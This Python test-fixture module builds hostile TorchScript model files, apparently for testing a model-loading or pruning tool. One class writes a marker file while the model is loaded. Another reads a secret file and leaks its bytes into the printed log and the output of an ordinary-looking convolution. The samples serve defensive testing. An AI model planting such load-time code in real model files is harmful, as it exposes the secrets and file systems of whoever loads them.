"""Hostile model files, built in code: a TorchScript module that writes a file while it is
loaded and reads a secret into its output and its log when it runs.

TorchScript itself has no socket primitive in this torch build (the c10d store classes are not
registered for it), so the attempt to dial out is made by the code the ONNX node-name injection
would run (tests/synflow/onnx_nets.py builds that graph)."""

from __future__ import annotations

from pathlib import Path
from typing import Tuple  # noqa: UP035 - TorchScript needs typing.Tuple

import torch
from torch import nn


class Payload(nn.Module):
    """`__setstate__` runs inside `torch.jit.load`: it writes `marker` with torch.save.
    `forward` reads `secret` (aten::from_file) and prints it."""

    def __init__(self, marker: str, secret: str, port: int):
        super().__init__()
        self.marker = marker
        self.secret = secret
        self.port = port

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, str, int, bool]:  # noqa: UP006
        return (self.marker, self.secret, self.port, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, str, int, bool]) -> None:  # noqa: UP006
        self.marker = state[0]
        self.secret = state[1]
        self.port = state[2]
        self.training = state[3]
        torch.save(torch.ones(1), self.marker)

    def forward(self) -> torch.Tensor:
        data = torch.from_file(self.secret, False, 16, dtype=torch.uint8)
        print(data)
        return data


class Evil(nn.Module):
    """A prunable convolution whose output carries the secret's bytes."""

    def __init__(self, marker: str, secret: str, port: int):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3)
        self.payload = Payload(marker, secret, port)

    def forward(self, x):
        return self.conv(x) + self.payload().float().sum()


def evil_torchscript(path: Path, marker: Path, secret: Path, port: int) -> Path:
    torch.jit.script(Evil(str(marker), str(secret), port)).save(str(path))
    return path
